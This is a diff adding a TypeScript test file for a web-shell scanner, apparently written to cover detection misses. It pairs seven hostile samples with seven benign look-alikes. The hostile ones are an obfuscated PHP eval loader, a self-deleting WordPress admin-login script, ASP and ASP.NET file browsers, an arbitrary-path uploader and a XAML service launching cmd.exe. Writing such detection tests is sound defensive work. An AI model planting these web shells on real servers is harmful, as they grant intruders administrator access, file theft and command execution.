@@ -1,0 +1,204 @@
+import { describe, it } from 'node:test';
+import assert from 'node:assert/strict';
+import { createHash } from 'node:crypto';
+import { createScanner } from './scanner.js';
+
+// Session 31: the techniques of held-out set X's first-scan misses, written again by us (the set's files stay
+// outside the project): a loader that evals what its own decoder makes of a packed blob (a table of swapped
+// characters, then base64_decode through a name joined from letters); a standalone script that loads
+// WordPress and signs its visitor in as the first account; a classic ASP file browser whose folder defaults
+// to c:\ in a branch; an ASP.NET drive browser; a classic ASP uploader writing where a form field says, C:\ by
+// default; a XAML workflow service starting a process. Each with look-alikes that must not be malicious.
+const scanner = createScanner({});
+const scan = (src: string, path: string) => scanner.scanBuffer(Buffer.from(src, 'latin1'), path);
+
+/** A packed blob of our own: base64 of harmless text, its characters swapped by a table, cut in pieces of 76. */
+function packed(): { pieces: string; table: string } {
+  const text = Buffer.from('echo "hello from a test payload";\n'.repeat(60)).toString('base64');
+  const swap: Record<string, string> = { A: 'Q', Q: 'A', e: 'z', z: 'e', '0': '7', '7': '0' };
+  const out = [...text].map((c) => swap[c] ?? c).join('');
+  const pieces = out.match(/.{1,76}/g)!.map((p) => `"${p}"`).join('.\n');
+  const table = Object.entries(swap).map(([k, v]) => `"${v}"=>"${k}"`).join(', ');
+  return { pieces, table };
+}
+const { pieces, table } = packed();
+
+// [what, path, the file]
+const SHELLS: [string, string, string][] = [
+  ['a packed blob unpacked by the file\'s own decoder and evaluated', '/www/hello.php', `<?php
+function unpack_it($s, $t) { $o = ''; for ($i = 0; $i < strlen($s); $i++) { $o .= isset($t[$s[$i]]) ? $t[$s[$i]] : $s[$i]; } $d = "b" . "a" . "s" . "e" . "6" . "4" . "_" . "d" . "e" . "c" . "o" . "d" . "e"; return $d($o); }
+$tbl = array(${table});
+$blob = ${pieces};
+eval/*x*/(unpack_it($blob, $tbl));
+`],
+  ['the same with the blob in one literal and assert', '/www/hello2.php', `<?php
+function u($s, $t) { return base64_decode(strtr($s, $t)); }
+$b = ${pieces.replace(/"\.\n"/g, '')};
+@assert(u($b, array(${table})));
+`],
+  ['a standalone script signing its visitor in as the first WordPress account, then deleting itself', '/www/wp-content/uploads/x.php', `<?php
+@unlink(__FILE__);
+require('../../wp-blog-header.php');
+$u = get_userdata(1);
+wp_clear_auth_cookie();
+wp_set_current_user($u->ID);
+wp_set_auth_cookie($u->ID);
+wp_safe_redirect(admin_url());
+exit;
+`],
+  ['a classic ASP file browser, its folder c:\\ when the request names none', '/www/list.asp', `<html><body>
+<%
+p = Request("p")
+t = Request("t")
+If p = "" Then
+  p = "c:\\"
+  t = "1"
+End If
+If t = "1" Then ShowFolder(p)
+If t = "2" Then
+  Set fso = Server.CreateObject("Scripting.FileSystemObject")
+  Set ts = fso.OpenTextFile(p, 1)
+  Response.Write("<pre>" & Server.HTMLEncode(ts.ReadAll) & "</pre>")
+End If
+Sub ShowFolder(dir)
+  Set fso = CreateObject("Scripting.FileSystemObject")
+  Set f = fso.GetFolder(dir)
+  For Each d In f.SubFolders
+    Response.Write("<a href='?t=1&p=" & Server.URLEncode(d.Path) & "'>" & d.Name & "</a><br>")
+  Next
+  For Each x In f.Files
+    Response.Write("<a href='?t=2&p=" & Server.URLEncode(x.Path) & "'>" & x.Name & "</a><br>")
+  Next
+End Sub
+%>
+</body></html>
+`],
+  ['an ASP.NET drive browser sending any file', '/www/browse.aspx', `<%@ Page Language="C#" %>
+<%@ Import Namespace="System.IO" %>
+<script runat="server">
+protected void Page_Load(object s, EventArgs e) {
+  if (Request["get"] != null) { string f = Request["get"]; Response.ContentType = "application/octet-stream"; Response.WriteFile(f); Response.End(); }
+  string dir = Request["dir"];
+  if (dir == null) { foreach (string d in Environment.GetLogicalDrives()) Response.Write("<a href='?dir=" + d + "'>" + d + "</a> "); return; }
+  foreach (DirectoryInfo d in new DirectoryInfo(dir).GetDirectories()) Response.Write("<a href='?dir=" + d.FullName + "'>" + d.Name + "</a><br>");
+  foreach (FileInfo f in new DirectoryInfo(dir).GetFiles()) Response.Write("<a href='?get=" + f.FullName + "'>" + f.Name + "</a><br>");
+}
+</script>
+`],
+  ['a classic ASP uploader writing where a form field says, C:\\ by default', '/www/up.asp', `<%
+If Request.QueryString("go") = "1" Then
+  raw = Request.BinaryRead(Request.TotalBytes)
+  ' (a parser of the multipart body, as such pages carry, fills form("dest") and form("name") and body)
+  Set form = ParseParts(raw)
+  Set fso = Server.CreateObject("Scripting.FileSystemObject")
+  Set out = fso.CreateTextFile(form("dest") & form("name"))
+  For i = 1 To LenB(form("body"))
+    out.Write Chr(AscB(MidB(form("body"), i, 1)))
+  Next
+  out.Close
+End If
+%>
+<form action="?go=1" method="post" enctype="multipart/form-data">
+<input type="file" name="f"><br>
+Folder: <input type="text" name="dest" value="C:\\"><input type="submit">
+</form>
+`],
+  ['a XAML workflow service starting a process', '/www/svc.xamlx', `<WorkflowService ConfigurationName="S" Name="S" xmlns="http://schemas.microsoft.com/netfx/2009/xaml/servicemodel" xmlns:p="http://schemas.microsoft.com/netfx/2009/xaml/activities" xmlns:x="http://schemas.microsoft.com/winfx/2006/xaml">
+ <p:Sequence>
+  <Receive x:Name="r" CanCreateInstance="True" OperationName="Go" />
+  <SendReply Request="{x:Reference r}">
+   <SendMessageContent>
+    <p:InArgument x:TypeArguments="x:String">[System.Diagnostics.Process.Start("cmd.exe", "/c whoami").Id.ToString()]</p:InArgument>
+   </SendMessageContent>
+  </SendReply>
+ </p:Sequence>
+</WorkflowService>
+`],
+];
+
+const BENIGN: [string, string, string][] = [
+  ['a template cache that evals compiled templates it wrote, with a long base64 logo', '/www/cache.php', `<?php
+function compile_template($src, $vars) { return '?>' . preg_replace('/\\{\\{\\s*(\\w+)\\s*\\}\\}/', '<?= htmlspecialchars($$1) ?>', $src); }
+$logo = "${Buffer.alloc(1200, 7).toString('base64')}";
+$tpl = file_get_contents(__DIR__ . '/views/home.tpl');
+extract(['title' => 'Home']);
+eval(compile_template($tpl, []));
+`],
+  ['a WordPress SSO bridge that checks a signed token before it signs anyone in', '/www/sso.php', `<?php
+require __DIR__ . '/wp-load.php';
+$token = $_GET['t'] ?? '';
+$parts = explode('.', $token);
+if (count($parts) !== 2 || !hash_equals(hash_hmac('sha256', $parts[0], SSO_SECRET), $parts[1])) { wp_die('bad token'); }
+$user = get_user_by('email', base64_decode($parts[0]));
+wp_set_auth_cookie($user->ID);
+wp_safe_redirect(admin_url());
+`],
+  ['a WordPress maintenance script that reads the first account and signs no one in', '/www/report.php', `<?php
+require('./wp-blog-header.php');
+$u = get_userdata(1);
+echo 'Site owner: ' . esc_html($u->display_name);
+`],
+  ['a classic ASP log viewer over a fixed folder', '/www/logs.asp', `<%
+Set fso = Server.CreateObject("Scripting.FileSystemObject")
+Set f = fso.GetFolder(Server.MapPath("/logs"))
+For Each x In f.Files
+  Response.Write("<a href='?n=" & Server.URLEncode(x.Name) & "'>" & x.Name & "</a><br>")
+Next
+n = Request("n")
+If n <> "" And InStr(n, "..") = 0 And InStr(n, "\\") = 0 Then
+  Set ts = fso.OpenTextFile(Server.MapPath("/logs/" & n), 1)
+  Response.Write("<pre>" & Server.HTMLEncode(ts.ReadAll) & "</pre>")
+End If
+%>
+`],
+  ['an ASP.NET disk report listing drives, and sending a fixed report file', '/www/disks.aspx', `<%@ Page Language="C#" %>
+<%@ Import Namespace="System.IO" %>
+<script runat="server">
+protected void Page_Load(object s, EventArgs e) {
+  foreach (DriveInfo d in DriveInfo.GetDrives()) if (d.IsReady) Response.Write(d.Name + " " + d.AvailableFreeSpace + "<br>");
+  if (Request["csv"] == "1") Response.WriteFile(Server.MapPath("~/App_Data/disks.csv"));
+}
+</script>
+`],
+  ['a pure-ASP upload class saving into the site\'s own folder', '/www/upload.asp', `<%
+raw = Request.BinaryRead(Request.TotalBytes)
+Set form = ParseParts(raw)
+Set fso = Server.CreateObject("Scripting.FileSystemObject")
+Set out = fso.CreateTextFile(Server.MapPath("/uploads/") & "\\" & Year(Now) & Month(Now) & Day(Now) & ".dat")
+out.Write form("body")
+out.Close
+%>
+<form method="post" enctype="multipart/form-data"><input type="file" name="f"><input type="text" name="title" value=""><input type="submit"></form>
+`],
+  ['a XAML workflow service that only replies', '/www/order.xamlx', `<WorkflowService ConfigurationName="Order" Name="Order" xmlns="http://schemas.microsoft.com/netfx/2009/xaml/servicemodel" xmlns:p="http://schemas.microsoft.com/netfx/2009/xaml/activities" xmlns:x="http://schemas.microsoft.com/winfx/2006/xaml">
+ <p:Sequence>
+  <Receive x:Name="r" CanCreateInstance="True" OperationName="Submit" />
+  <SendReply Request="{x:Reference r}"><SendMessageContent><p:InArgument x:TypeArguments="x:String">["accepted"]</p:InArgument></SendMessageContent></SendReply>
+ </p:Sequence>
+</WorkflowService>
+`],
+];
+
+describe('scan: session 31, held-out set X\'s techniques written again', () => {
+  for (const [name, path, src] of SHELLS) {
+    it(`malicious: ${name}`, () => {
+      const r = scan(src, path);
+      assert.equal(r.verdict, 'malicious', JSON.stringify(r.findings));
+    });
+  }
+  for (const [name, path, src] of BENIGN) {
+    it(`not malicious: ${name}`, () => {
+      const r = scan(src, path);
+      assert.notEqual(r.verdict, 'malicious', JSON.stringify(r.findings));
+    });
+  }
+  it('the packed blob is long enough to be one (over 1,000 characters, more than 8 pieces)', () => {
+    assert.ok(pieces.replace(/"\.\n"/g, '').length > 1000);
+    assert.ok(pieces.split('.\n').length > 8);
+    assert.equal(createHash('sha256').update(pieces).digest('hex').length, 64);
+  });
+  it('ran every case', () => {
+    assert.equal(SHELLS.length, 7);
+    assert.equal(BENIGN.length, 7);
+  });
+});
